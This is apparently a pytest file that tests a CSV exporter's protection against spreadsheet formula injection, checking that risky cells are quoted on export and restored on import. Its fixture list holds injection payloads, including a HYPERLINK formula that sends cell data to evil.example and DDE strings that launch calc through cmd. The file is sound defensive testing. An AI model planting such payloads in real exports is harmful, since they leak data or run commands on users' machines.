"""Formula-safe CSV (issue 18, finding 2): every CSV Muara writes quotes a cell a
spreadsheet would run, and the import takes the quote off again (the round trip)."""
import csv
import io

import pytest

from app.security.csv_safety import restore_cells, safe_cell
from tests.factories import INVOICE_HEADER, invoices, muara, run_import

HOSTILE = [
    ('=HYPERLINK("http://evil.example/?x="&A1,"Click")', '\'=HYPERLINK("http://evil.example/?x="&A1,"Click")'),
    ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
    ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
    ("@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"),
    ("\t=1+1", "'\t=1+1"),
    ("\r=1+1", "'\r=1+1"),
    ("'=already quoted", "''=already quoted"),
]


@pytest.mark.parametrize("value, written", HOSTILE)
def test_a_runnable_cell_is_written_quoted_and_read_back_as_it_was(value, written):
    assert safe_cell(value) == written
    assert restore_cells([written]) == [value]


@pytest.mark.parametrize("value", ["-5", "+3.25", "-0.125", "-1e3", "42", "plain", "a=b",
                                   "O'Brien", "'quoted but harmless", ""])
def test_numbers_and_harmless_text_are_written_unchanged(value):
    assert safe_cell(value) == value
    assert restore_cells([value]) == [value]


def test_none_is_an_empty_cell():
    assert safe_cell(None) == ""


def test_cli_csv_export_neutralizes_formulas_and_reimports_to_the_same_records(
        app, runner, d1, tmp_path):  # noqa: F811
    formula_po = '=HYPERLINK("//e.vl")'  # the PO holds 20 characters
    # A CSV upload (an .xlsx cell starting with "=" would be a formula, not text).
    upload = tmp_path / "hostile.csv"
    with upload.open("w", newline="") as handle:
        csv.writer(handle).writerows([
            INVOICE_HEADER,
            ["INV-1", "C001", "2025-01-31", "-5", formula_po, "JKT"],
            ["INV-2", "C002", "2025-02-01", "20.125", "@SUM(A1:A9)", ""]])
    _, first = run_import(runner, str(upload))
    assert first["accepted"] == 2, first["rejections"]
    before = invoices(app)
    assert before["INV-1"][2] == -5 and before["INV-1"][3] == formula_po

    out_path = tmp_path / "export.csv"
    result = muara(runner, "export", "open_invoices", "--org", "D1", "--format", "csv",
                   "--out", str(out_path))
    assert result.exit_code == 0, result.output
    rows = list(csv.reader(io.StringIO(out_path.read_text())))
    cells = [cell for row in rows[1:] for cell in row]
    # Nothing a spreadsheet would run; the negative balance is still a number.
    assert not [c for c in cells if c[:1] in ("=", "+", "@", "\t", "\r")]
    assert "'" + formula_po in cells and "'@SUM(A1:A9)" in cells
    assert "-5" in cells

    _, out = run_import(runner, str(out_path))
    assert (out["status"], out["accepted"]) == ("archived", 2)
    assert invoices(app) == before
